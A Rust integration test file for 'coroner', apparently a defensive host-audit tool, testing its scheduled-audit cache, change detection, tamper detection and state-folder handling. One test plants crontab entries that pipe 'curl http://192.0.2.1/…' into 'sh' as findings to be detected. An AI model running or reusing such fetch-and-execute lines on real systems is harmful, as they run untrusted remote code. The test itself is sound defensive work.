//! Scheduled audits: what the state folder keeps, and what it must never hide.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)] // tests
#![cfg_attr(not(feature = "real-roots"), allow(dead_code, unused_imports))]

mod support;

use std::fs::File;
use std::path::Path;
use std::process::Output;
use std::time::Duration;

use coroner_core::{Report, sha256_of};
use coroner_testkit::Tree;
use support::{PATIENT, append, copy_of, coroner, lab, report, status};

fn small() -> Tree {
    Tree::new()
        .file("/etc/os-release", "ID=debian\nVERSION_ID=\"12\"\n")
        .file("/etc/hostname", "small\n")
        .file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n")
        .file("/etc/shadow", "root:*:19000:0:99999:7:::\n")
        .mode("/etc/shadow", 0o640)
        .file("/etc/group", "root:x:0:\n")
        .file("/etc/crontab", "17 * * * * root /usr/local/bin/one\n")
        .file("/usr/local/bin/one", "#!/bin/sh\necho one\n")
        .mode("/usr/local/bin/one", 0o755)
        .dir("/proc")
        .dir("/sys")
}

/// An audit of `root` with its state in `state`.
fn scheduled(root: &Path, state: &Path, more: &[&str]) -> Output {
    let mut command = coroner();
    command.args(["audit", "--format", "json", "--root"]).arg(root).args(PATIENT);
    command.arg("--state").arg(state).args(more).output().unwrap()
}

fn said(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

/// Inodes that changed within two seconds are never kept.
fn settle() {
    std::thread::sleep(Duration::from_millis(3200));
}

fn kept_reports(state: &Path) -> usize {
    let names = std::fs::read_dir(state).unwrap().map(|entry| entry.unwrap().file_name());
    names.filter(|name| name.to_string_lossy().starts_with("report-")).count()
}

/// What must not depend on the cache.
fn judged(report: &Report) -> impl PartialEq + std::fmt::Debug + use<> {
    let (items, findings) = (report.items.clone(), report.findings.clone());
    (items, findings, report.gaps.clone(), report.run.verified.clone())
}

#[test]
fn a_second_audit_knows_unchanged_files_and_says_the_same_of_them() {
    let (root, state) = (small().write(), tempfile::tempdir().unwrap());
    settle();
    let [first, second, anew] = [&[][..], &[], &["--no-cache"]]
        .map(|more| report(&scheduled(root.path(), state.path(), more)));
    assert_eq!(first.run.known_files, Some(0));
    assert!(second.run.known_files > Some(1), "{:?}", second.run.known_files);
    assert_eq!(anew.run.known_files, None);
    assert_eq!(judged(&first), judged(&second));
    assert_eq!(judged(&first), judged(&anew));
    assert_eq!(kept_reports(state.path()), 3);
    assert!(first.run.unchanged.is_empty() && anew.run.unchanged.is_empty());
    for part in ["cron", "startup", "accounts", "binaries", "files", "judging"] {
        assert!(second.run.unchanged.iter().any(|name| name == part), "{part} was done again");
    }
}

/// What a third audit did not do again after `change` was made behind the second's back.
fn unchanged_after(change: impl FnOnce(&Path)) -> Vec<String> {
    let (root, state) = (small().write(), tempfile::tempdir().unwrap());
    unchanged_in(root.path(), state.path(), change)
}

fn unchanged_in(root: &Path, state: &Path, change: impl FnOnce(&Path)) -> Vec<String> {
    settle();
    scheduled(root, state, &[]);
    change(root);
    let second = report(&scheduled(root, state, &[]));
    let anew = report(&scheduled(root, state, &["--no-cache"]));
    assert_eq!(judged(&second), judged(&anew));
    second.run.unchanged
}

fn holds(parts: &[String], part: &str) -> bool {
    parts.iter().any(|name| name == part)
}

#[test]
fn a_new_name_a_new_link_and_a_removed_file_are_each_seen_by_those_who_looked_there() {
    let added = unchanged_after(|root| {
        std::fs::create_dir_all(root.join("etc/cron.d")).unwrap();
        std::fs::write(root.join("etc/cron.d/new"), "1 * * * * root /bin/true\n").unwrap();
    });
    assert!(!holds(&added, "cron") && !holds(&added, "files"), "{added:?}");
    let removed = unchanged_after(|root| std::fs::remove_file(root.join("etc/shadow")).unwrap());
    assert!(!holds(&removed, "accounts") && holds(&removed, "cron"), "{removed:?}");
    let linked = unchanged_after(|root| {
        let file = root.join("etc/crontab");
        std::fs::rename(&file, root.join("etc/other")).unwrap();
        std::os::unix::fs::symlink("other", &file).unwrap();
    });
    assert!(!holds(&linked, "cron"), "{linked:?}");
}

#[test]
fn a_name_that_was_missing_from_a_linked_directory_is_seen_when_it_appears_there() {
    let link = |root: &Path, to: &str| {
        let path = root.join("usr/local/sbin");
        let _ = std::fs::remove_file(&path);
        std::os::unix::fs::symlink(to, path).unwrap();
    };
    let changes: [&dyn Fn(&Path); 2] = [
        &|root| std::fs::write(root.join("usr/local/one.d/late"), "#!/bin/sh\n").unwrap(),
        &|root| link(root, "two.d"),
    ];
    for change in changes {
        let root = small().file("/etc/cron.d/late", "1 * * * * root /usr/local/sbin/late\n");
        let root = root.dir("/usr/local/one.d").file("/usr/local/two.d/late", "#!/bin/sh\n");
        let (root, state) = (root.write(), tempfile::tempdir().unwrap());
        link(root.path(), "one.d");
        let parts = unchanged_in(root.path(), state.path(), change);
        assert!(!holds(&parts, "files") && holds(&parts, "accounts"), "{parts:?}");
    }
}

#[test]
fn a_directory_that_was_moved_and_linked_back_is_looked_at_again() {
    let parts = unchanged_after(|root| {
        std::fs::rename(root.join("usr/local"), root.join("usr/moved")).unwrap();
        std::os::unix::fs::symlink("moved", root.join("usr/local")).unwrap();
    });
    assert!(!holds(&parts, "files") && holds(&parts, "cron"), "{parts:?}");
}

#[test]
fn only_the_work_that_looked_at_a_changed_file_is_done_again() {
    let parts = unchanged_after(|root| append(root, "/etc/crontab", "9 * * * * root /bin/two\n"));
    assert!(!holds(&parts, "cron"), "{parts:?}");
    assert!(holds(&parts, "accounts") && holds(&parts, "startup"), "{parts:?}");
}

#[test]
fn permissions_that_changed_alone_are_noticed() {
    use std::os::unix::fs::PermissionsExt;
    let parts = unchanged_after(|root| {
        let mode = std::fs::Permissions::from_mode(0o4755);
        std::fs::set_permissions(root.join("usr/local/bin/one"), mode).unwrap();
    });
    assert!(!holds(&parts, "files") && !holds(&parts, "binaries"), "{parts:?}");
}

#[test]
fn other_options_make_other_work_of_it() {
    let (root, state) = (small().write(), tempfile::tempdir().unwrap());
    settle();
    scheduled(root.path(), state.path(), &[]);
    let other = report(&scheduled(root.path(), state.path(), &["--scope", "quick"]));
    assert_eq!(other.run.unchanged, Vec::<String>::new());
}

#[test]
fn work_that_is_damaged_cut_or_of_another_version_is_said_and_made_anew() {
    let (root, state) = (small().write(), tempfile::tempdir().unwrap());
    settle();
    let first = report(&scheduled(root.path(), state.path(), &[]));
    let file = state.path().join("work");
    let whole = std::fs::read(&file).unwrap();
    let mut flipped = whole.clone();
    *flipped.last_mut().unwrap() ^= 1;
    let foreign = String::from_utf8_lossy(&whole).replacen("work/2", "work/1", 1).into_bytes();
    for bytes in [&flipped, &whole[..whole.len() / 2], &foreign, &b""[..]] {
        std::fs::write(&file, bytes).unwrap();
        let output = scheduled(root.path(), state.path(), &[]);
        assert!(said(&output).contains("work: damaged"), "{}", said(&output));
        let again = report(&output);
        assert_eq!((judged(&again), again.run.unchanged.len()), (judged(&first), 0));
    }
    let after = scheduled(root.path(), state.path(), &[]);
    assert!(said(&after).is_empty() && !report(&after).run.unchanged.is_empty());
}

#[test]
fn a_script_whose_text_changed_with_size_and_mtime_restored_is_noticed() {
    let (root, state) = (small().write(), tempfile::tempdir().unwrap());
    settle();
    let text = |report: &Report| {
        let script = report
            .items
            .iter()
            .find(|item| item.kind == "script" && item.key == "/usr/local/bin/one");
        let script = script.expect("the launched script");
        script.fields["text"].as_str().unwrap().to_owned()
    };
    scheduled(root.path(), state.path(), &[]);
    assert!(text(&report(&scheduled(root.path(), state.path(), &[]))).contains("one"));
    let path = root.path().join("usr/local/bin/one");
    let modified = std::fs::metadata(&path).unwrap().modified().unwrap();
    std::fs::write(&path, "#!/bin/sh\necho two\n").unwrap();
    File::options().write(true).open(&path).unwrap().set_modified(modified).unwrap();
    let third = report(&scheduled(root.path(), state.path(), &[]));
    assert!(text(&third).contains("two"));
}

#[test]
fn a_damaged_folder_is_said_and_rebuilt() {
    let (root, state) = (small().write(), tempfile::tempdir().unwrap());
    settle();
    scheduled(root.path(), state.path(), &[]);
    for entry in std::fs::read_dir(state.path()).unwrap() {
        std::fs::write(entry.unwrap().path(), b"\x00rotten").unwrap();
    }
    let again = scheduled(root.path(), state.path(), &["--since-last"]);
    let errors = said(&again);
    assert!(errors.contains("made anew") && errors.contains("left out"), "{errors}");
    assert_eq!(report(&again).run.known_files, Some(0));
    let after = scheduled(root.path(), state.path(), &["--since-last"]);
    assert_eq!(said(&after), "");
    assert!(report(&after).run.known_files > Some(1));
}

#[test]
fn the_tool_is_told_by_its_hash_whether_it_was_read_again_or_not() {
    let (root, state) = (small().write(), tempfile::tempdir().unwrap());
    settle();
    let hash = sha256_of(&std::fs::read(env!("CARGO_BIN_EXE_coroner")).unwrap()).hex();
    for args in [&[][..], &[], &["--no-cache"]] {
        let report = report(&scheduled(root.path(), state.path(), args));
        assert_eq!(report.tool.sha256.as_ref(), Some(&hash));
    }
    assert!(std::fs::read_to_string(state.path().join("tool")).unwrap().contains(&hash));
}

#[test]
fn two_audits_at_once_do_not_share_a_folder() {
    let (root, state) = (small().write(), tempfile::tempdir().unwrap());
    let lock = File::create(state.path().join("lock")).unwrap();
    lock.lock().unwrap();
    let output = scheduled(root.path(), state.path(), &[]);
    assert_eq!(status(&output), 70);
    assert!(said(&output).contains("another audit"), "{}", said(&output));
    assert!(output.stdout.is_empty());
    // A child that another test is just starting has the descriptor too.
    lock.unlock().unwrap();
    assert!(status(&scheduled(root.path(), state.path(), &[])) < 4);
}

#[test]
fn the_folder_keeps_as_many_reports_as_it_is_told_to() {
    let (root, state) = (small().write(), tempfile::tempdir().unwrap());
    for expected in [1, 2, 2] {
        scheduled(root.path(), state.path(), &["--keep", "2", "--only", "cron"]);
        assert_eq!(kept_reports(state.path()), expected);
    }
}

#[test]
fn since_last_speaks_of_new_findings_alone() {
    let (root, state) = (small().write(), tempfile::tempdir().unwrap());
    let run = || status(&scheduled(root.path(), state.path(), &["--since-last"]));
    append(root.path(), "/etc/crontab", "1 * * * * root curl http://192.0.2.1/a | sh\n");
    let first = run();
    assert!((1..=2).contains(&first), "{first}: there is no earlier report");
    assert_eq!(run(), 0, "nothing is new");
    append(root.path(), "/etc/crontab", "2 * * * * root curl http://192.0.2.1/b | sh\n");
    assert!((1..=2).contains(&run()), "one finding is new");
    assert_eq!(run(), 0);
}

#[test]
fn a_folder_that_cannot_be_is_refused_before_the_audit() {
    let file = tempfile::NamedTempFile::new().unwrap();
    let output = scheduled(Path::new("/"), file.path(), &[]);
    assert_eq!(status(&output), 64, "{}", said(&output));
    for args in [["audit", "--since-last"], ["audit", "--no-cache"]] {
        let output = coroner().args(args).output().unwrap();
        assert_eq!(status(&output), 64);
        assert!(said(&output).contains("--state"));
    }
}

#[test]
#[cfg_attr(not(feature = "real-roots"), ignore = "needs whole roots: run tests/run")]
fn a_packaged_program_that_changed_behind_restored_times_is_found_beside_a_warm_cache() {
    let (root, state) = (copy_of(&lab().join("bookworm")), tempfile::tempdir().unwrap());
    settle();
    scheduled(root.path(), state.path(), &[]);
    let path = root.path().join("usr/share/perl5/Debconf/Log.pm");
    let (mut content, before) = (std::fs::read(&path).unwrap(), std::fs::metadata(&path).unwrap());
    *content.last_mut().unwrap() ^= 1;
    std::fs::write(&path, content).unwrap();
    let file = File::options().write(true).open(&path).unwrap();
    file.set_modified(before.modified().unwrap()).unwrap();
    assert_eq!(std::fs::metadata(&path).unwrap().modified().unwrap(), before.modified().unwrap());
    let report = report(&scheduled(root.path(), state.path(), &[]));
    assert!(report.run.known_files > Some(10_000));
    let named = report
        .items
        .iter()
        .find(|item| item.kind == "file" && item.key == "/usr/share/perl5/Debconf/Log.pm");
    assert_eq!(named.expect("named").fields["state"], "modified");
}
